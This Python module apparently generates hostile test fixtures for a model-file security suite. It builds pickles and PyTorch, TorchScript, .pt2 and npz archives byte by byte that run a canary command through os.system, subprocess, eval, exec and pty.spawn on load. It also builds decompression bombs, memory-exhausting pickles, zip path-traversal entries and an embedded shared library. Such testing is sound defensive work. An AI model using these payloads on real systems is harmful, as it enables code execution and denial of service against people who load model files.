"""Pickles and the archives of torch.save around them, written opcode by opcode: what runs, grows, or never ends when it is read."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
from hostile_case import CHECKPOINT, MODEL, Canary, hostile

BOTH = (*CHECKPOINT, "prepare")
MAGIC = 0x1950A86A20F9469CFC6C  # torch/serialization.py


def call(module: str, name: str, argument: str, protocol: int = 2) -> bytes:
    """A pickle whose load calls *module.name(argument)*."""
    start = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    if protocol >= 4:
        return start + short(module) + short(name) + b"\x93" + short(argument) + b"\x85R."
    if protocol == 0:
        return f"c{module}\n{name}\n(S{argument!r}\ntR.".encode()
    return start + f"c{module}\n{name}\n".encode() + long(argument) + b"\x85R."


def short(value: str) -> bytes:
    data = value.encode()
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def long(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def archive(path: Path, members: dict[str, bytes], root: str = "archive", compress: bool = False) -> Path:
    """A zip as torch.save writes it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as made:
        for name, data in ({"data.pkl": b"\x80\x02}."} | members | {"version": b"3\n", "byteorder": b"little"}).items():
            made.writestr(f"{root}/{name}", data)
    return path


def tensor(
    key: str = "0",
    count: int = 16,
    size: tuple[int, ...] = (16,),
    offset: int = 0,
    storage: str = "FloatStorage",
    stride: tuple[int, ...] | None = None,
) -> bytes:
    """The opcodes of a tensor over the storage *key* (without protocol and stop)."""
    steps = stride or tuple(int(np.prod(size[i + 1 :], dtype=object)) for i in range(len(size)))
    persistent = b"(" + long("storage") + f"ctorch\n{storage}\n".encode() + long(key) + long("cpu") + integer(count) + b"tQ"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + persistent + integer(offset) + tup(size) + tup(steps) + b"\x89ccollections\nOrderedDict\n)RtR"


def integer(value: int) -> bytes:
    if 0 <= value < 1 << 31:
        return b"J" + struct.pack("<i", value)
    data = value.to_bytes((value.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def tup(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(integer, values)) + b"t"


def state(*items: tuple[str, bytes]) -> bytes:
    return b"\x80\x02}(" + b"".join(long(name) + value for name, value in items) + b"u."


WEIGHT = np.ones(16, "<f4").tobytes()
CALLS = {
    "posix-system": ("posix", "system"), "os-system": ("os", "system"), "subprocess-popen": ("subprocess", "getoutput"), "builtins-eval": ("builtins", "eval"),
    "builtins-exec": ("builtins", "exec"), "pty-spawn": ("pty", "spawn"), "runpy": ("runpy", "run_path"), "torch-load": ("torch", "load"),
    "torch-ops-library": ("torch.ops", "load_library"), "timeit": ("timeit", "timeit"), "pdb": ("pdb", "run"), "code-interact": ("torch._inductor.codecache", "AsyncCompile"),
}  # fmt: skip


def command(canary: Canary, name: str) -> str:
    if name in ("builtins-eval", "builtins-exec", "timeit", "pdb"):
        return f"__import__('os').system({canary.shell!r})"
    return canary.shell


for _name, (_module, _function) in CALLS.items():

    @hostile("torch-module", "reduce", _name, f"a pickle that calls {_module}.{_function}", commands=BOTH,
             control="torch" if _name in ("posix-system", "os-system", "builtins-eval", "builtins-exec", "timeit") else "")  # fmt: skip
    def _(canary: Canary, name: str = _name, module: str = _module, function: str = _function) -> Path:
        return archive(canary.model / "model.pt", {"data.pkl": call(module, function, command(canary, name))})


for _protocol in range(6):

    @hostile(
        "torch-module", "protocol", f"plain-{_protocol}", f"os.system in a plain pickle of protocol {_protocol}", commands=BOTH, control="pickle"
    )
    def _(canary: Canary, protocol: int = _protocol) -> Path:
        path = canary.model / "model.pkl"
        path.write_bytes(call("os", "system", canary.shell, protocol))
        return path


@hostile("torch-weights", "reduce", "state-dict", "a state dict with a right tensor and a call", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    code = f"cos\nsystem\n(S{canary.shell!r}\ntR".encode()
    return archive(canary.model / "model.pt", {"data.pkl": state(("w", tensor()), ("b", code)), "data/0": WEIGHT})


@hostile("torch-weights", "reduce", "nested", "a pickle in a pickle, by pickle.loads", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    inner = call("os", "system", canary.shell)
    code = b"c_pickle\nloads\n(B" + struct.pack("<I", len(inner)) + inner + b"tR"
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})


@hostile("torch-weights", "reduce", "torch-load-bytes", "torch's own loader of bytes with a pickle in them", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as made:
        for name, data in {"data.pkl": call("os", "system", canary.shell), "version": b"3\n"}.items():
            made.writestr(f"a/{name}", data)
    code = b"ctorch.storage\n_load_from_bytes\n(B" + struct.pack("<I", len(inner.getvalue())) + inner.getvalue() + b"tR"
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x03}(" + long("w") + code + b"u."})


@hostile("torch-weights", "reduce", "build", "a BUILD that sets an attribute of a class to os.system", commands=BOTH)
def _(canary: Canary) -> Path:
    code = b"ccollections\nOrderedDict\n)R}(" + long("__setstate__") + b"cos\nsystem\nub" + long(canary.shell) + b"b"
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})


@hostile("torch-weights", "reduce", "inst", "the INST opcode", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    return archive(canary.model / "model.pt", {"data.pkl": f"(S{canary.shell!r}\nios\nsystem\n.".encode()})


@hostile("torch-weights", "reduce", "obj", "the OBJ opcode", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    return archive(
        canary.model / "model.pt", {"data.pkl": b"(csubprocess\nPopen\n" + b"(" + long("/bin/sh") + long("-c") + long(canary.shell) + b"lo."}
    )


@hostile("torch-weights", "reduce", "ext", "the EXT opcodes", commands=BOTH)
def _(canary: Canary) -> Path:
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02\x82\x01\x83\x01\x00\x84\x01\x00\x00\x00."})


@hostile("torch-weights", "reduce", "dotted", "a STACK_GLOBAL with a dotted name", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    code = b"\x80\x04" + short("torch.serialization") + short("os.system") + b"\x93" + short(canary.shell) + b"\x85R."
    return archive(canary.model / "model.pt", {"data.pkl": code})


@hostile(
    "torch-weights",
    "reduce",
    "rebuild-from-type",
    "torch._tensor._rebuild_from_type_v2 with a function of the file's",
    commands=BOTH,
    control="torch",
)
def _(canary: Canary) -> Path:
    code = b"ctorch._tensor\n_rebuild_from_type_v2\n(cos\nsystem\nctorch\nTensor\n(" + long(canary.shell) + b"t}tR"
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02}(" + long("w") + code + b"u."})


@hostile("torch-weights", "reduce", "legacy", "a call in the system information of a legacy file", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    code = f"cos\nsystem\n(S{canary.shell!r}\ntR.".encode()
    path.write_bytes(pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + code + pickle.dumps({}, 2) + pickle.dumps([], 2))
    return path


@hostile("torch-weights", "reduce", "legacy-model", "a call in the object of a legacy file", commands=BOTH, control="torch")
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    system = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    path.write_bytes(pickle.dumps(MAGIC, 2) + pickle.dumps(1001, 2) + system + call("os", "system", canary.shell) + pickle.dumps([], 2))
    return path


@hostile("torch-weights", "reduce", "tar", "a call in the pickle of a tar archive", commands=BOTH)
def _(canary: Canary) -> Path:
    path = canary.model / "model.pt"
    with tarfile.open(path, "w") as made:
        for name in ("pickle", "storages", "tensors", relative_written(canary)):
            info = tarfile.TarInfo(name)
            data = call("os", "system", canary.shell)
            info.size = len(data)
            made.addfile(info, io.BytesIO(data))
    return path


def relative_written(canary: Canary) -> str:
    return f"../fired/{Path(canary.written).name}"


@hostile("torchscript", "reduce", "constants", "a call in constants.pkl of a TorchScript archive", control="")
def _(canary: Canary) -> Path:
    code = {"constants.pkl": call("os", "system", canary.shell), "code/__torch__.py": b"", "data.pkl": call("os", "system", canary.shell)}
    return archive(canary.model / "model.pt", code, "model")


@hostile("torchscript", "reduce", "mobile-bytecode", "a call in bytecode.pkl of an archive for phones")
def _(canary: Canary) -> Path:
    code = {
        "bytecode.pkl": call("os", "system", canary.shell),
        "constants.pkl": call("os", "system", canary.shell),
        "data.pkl": call("os", "system", canary.shell),
    }
    return archive(canary.model / "model.ptl", code, "model")


@hostile("exported-program", "reduce", "sample-inputs", "a call in the pickled example inputs and constants of a .pt2")
def _(canary: Canary) -> Path:
    members = {"archive_format": b"pt2", "archive_version": b"0", "serialized_exported_program.json": b"{}", "models/model.json": b"{}",
               "data/sample_inputs/model.pt": call("os", "system", canary.shell), "data/weights/model.pt": call("os", "system", canary.shell),
               "data/constants/model.pt": call("os", "system", canary.shell), "serialized_state_dict.pt": call("os", "system", canary.shell),
               "serialized_constants.pt": call("os", "system", canary.shell), "serialized_example_inputs.pt": call("os", "system", canary.shell)}  # fmt: skip
    return archive(canary.model / "model.pt2", members, "model")


# --- pickles that grow, or never end ------------------------------------------------------------------------------


def doubled(count: int) -> bytes:
    """Lists that hold the one before twice, *count* deep: 2^count leaves."""
    return b"\x80\x02]" + b"".join(b"q" + bytes([i]) + b"(h" + bytes([i]) + b"h" + bytes([i]) + b"l" for i in range(count)) + b"."


STREAMS: dict[str, tuple[str, Callable[[Canary], bytes]]] = {
    "billion-lists": ("lists that double 60 times", lambda c: doubled(60)),
    "deep-tuples": ("200,000 tuples in each other", lambda c: b"\x80\x02)" + b"\x85" * 200_000 + b"."),
    "deep-lists": ("200,000 lists in each other", lambda c: b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
    "many-marks": ("255,000 opcodes that copy the top", lambda c: b"\x80\x02]" + b"2" * 255_000 + b"."),
    "dup-build": ("a dictionary that is set to itself", lambda c: b"\x80\x02}q\x00(" + b"".join(long(f"k{i}") + b"h\x00" for i in range(50_000)) + b"u."),
    "tuple-squares": ("tuples of everything so far", lambda c: b"\x80\x02)" + b"".join(b"q" + bytes([i]) + b"(" + b"h" + bytes([i]) + b"h" + bytes([i]) + b"t" for i in range(200)) + b"."),
    "long-integer": ("an integer of 2 MB", lambda c: b"\x80\x02\x8b" + struct.pack("<i", 2_000_000) + b"\x7f" * 2_000_000 + b"."),
    "decimal-integer": ("an integer of 2,000,000 decimal digits", lambda c: b"I" + b"7" * 2_000_000 + b"\n."),
    "huge-string": ("a string that says it has 2^62 bytes", lambda c: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"x."),
    "huge-frame": ("a frame of 2^62 bytes", lambda c: b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"]."),
    "huge-memo": ("a memo at 2^32 - 1", lambda c: b"\x80\x02]r\xff\xff\xff\xff."),
    "odd-persistent": ("persistent ids that are no storages", lambda c: b"\x80\x02}(" + long("a") + b"(tQ" + long("b") + integer(5) + b"Q" + long("c") + b"(" + long("storage") + integer(1) + b"tQu."),
    "stack-underflow": ("opcodes that take from an empty stack", lambda c: b"\x80\x02RRRtub."),
    "no-stop": ("a pickle without an end", lambda c: b"\x80\x02]q\x00"),
    "unhashable": ("a dictionary with a list for a key", lambda c: b"\x80\x02}(]K\x01u."),
    "huge-size": ("a tensor of 2^60 numbers over 64 bytes", lambda c: state(("w", tensor(size=(1 << 30, 1 << 30))))),
    "huge-view": ("a tensor of 2^40 numbers that repeats one", lambda c: state(("w", tensor(size=(1 << 20, 1 << 20), stride=(0, 0))))),
    "negative-view": ("a tensor at an offset below 0", lambda c: state(("w", tensor(offset=-5, size=(-3,))))),
    "key-traversal": ("a storage whose key leads to the secret", lambda c: state(("w", tensor(key="../../secrets/secret.bin")))),
    "key-absolute": ("a storage whose key is the secret's path", lambda c: state(("w", tensor(key=c.secret)))),
    "escapes": ("names that are escapes and a script", lambda c: state(("\x1b[31mred\u202e\x07<script>document.title='executed'</script>", tensor()))),
    "many-tensors": ("100,000 tensors of one storage", lambda c: state(*((f"w{i}", tensor()) for i in range(100_000)))),
    "surrogates": ("a name that is no text", lambda c: b"\x80\x02}(X\x03\x00\x00\x00\xed\xa0\x80" + tensor() + b"u."),
    "names-of-state": ("groups of modules that are no dictionaries", lambda c: b"\x80\x02ctorch.nn.modules.module\nModule\n)\x81}(" + long("_modules") + integer(5) + long("_parameters") + b"]" + long("training") + b"\x88ub."),
}  # fmt: skip
for _name, (_tries, _stream) in STREAMS.items():

    @hostile("torch-weights", "stream", _name, _tries, commands=CHECKPOINT)
    def _(canary: Canary, stream: Any = _stream) -> Path:
        return archive(canary.model / "model.pt", {"data.pkl": stream(canary), "data/0": WEIGHT})


@hostile("torch-weights", "archive", "record-bomb", "a data.pkl of 1 GB in 1 MB", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    return archive(canary.model / "model.pt", {"data.pkl": b"\x80\x02" + b"]" * (1 << 30) + b"."}, compress=True)


@hostile("torch-weights", "archive", "storage-bomb", "a storage of 1.5 GB of zeros in 1.5 MB", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    pickled = state(("w", tensor(count=3 << 27, size=(3 << 27,))))
    return archive(canary.model / "model.pt", {"data.pkl": pickled, "data/0": bytes(3 << 29)}, compress=True)


@hostile("torch-weights", "archive", "twice", "two records of one name", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    path = archive(canary.model / "model.pt", {"data.pkl": state(("w", tensor())), "data/0": WEIGHT})
    with zipfile.ZipFile(path, "a") as made:
        made.writestr("archive/data.pkl", call("os", "system", canary.shell))
    return path


@hostile("torch-weights", "archive", "overlap", "200 records that share their bytes", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    path = archive(
        canary.model / "model.pt", {"data.pkl": state(*((f"w{i}", tensor(str(i))) for i in range(200))), "data/0": bytes(1 << 26)}, compress=True
    )
    data = path.read_bytes()
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    central, entries, at = data[start:end], [], 0
    while at < len(central):
        n, m, k = struct.unpack("<3H", central[at + 28 : at + 34])
        entries.append(central[at : at + 46 + n + m + k])
        at += 46 + n + m + k
    one = next(e for e in entries if e[46:].startswith(b"archive/data/0"))
    for i in range(1, 200):
        name = f"archive/data/{i}".encode()
        entries.append(one[:28] + struct.pack("<3H", len(name), 0, 0) + one[34:46] + name)
    body = b"".join(entries)
    tail = data[end : end + 8] + struct.pack("<HHII", len(entries), len(entries), len(body), start) + b"\0\0"
    path.write_bytes(data[:start] + body + tail)
    return path


@hostile("torch-weights", "archive", "traversal", "records with .. and absolute names", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    path = archive(canary.model / "model.pt", {"data.pkl": state(("w", tensor())), "data/0": WEIGHT})
    with zipfile.ZipFile(path, "a") as made:
        made.writestr(f"archive/../../../fired/{Path(canary.written).name}", b"x")
        made.writestr(canary.written, b"x")
    return path


@hostile("torch-weights", "archive", "library", "a shared library among the records", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    from hostile_keras import shared_library

    data = shared_library(canary).read_bytes()
    return archive(
        canary.model / "model.pt", {"data.pkl": state(("w", tensor())), "data/0": WEIGHT, "extra/evil.so": data, "data/aotinductor/model/m.so": data}
    )


@hostile("torch-weights", "archive", "encrypted-flag", "a directory with flags and methods that nobody knows", commands=CHECKPOINT)
def _(canary: Canary) -> Path:
    path = archive(canary.model / "model.pt", {"data.pkl": state(("w", tensor())), "data/0": WEIGHT})
    data = bytearray(path.read_bytes())
    for at in [i for i in range(len(data) - 4) if data[i : i + 4] == b"PK\x01\x02"]:
        data[at + 8 : at + 12] = struct.pack("<HH", 0xFFFF, 0xFFFF)
    path.write_bytes(data)
    return path


@hostile(
    "npz",
    "pickle",
    "object-array",
    "an object array with a call, given as a model and a checkpoint",
    commands=(*MODEL, "consolidate"),
    control="numpy",
)
def _(canary: Canary) -> Path:
    path = canary.model / "weights.npz"
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("w.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + call("os", "system", canary.shell))
    return path
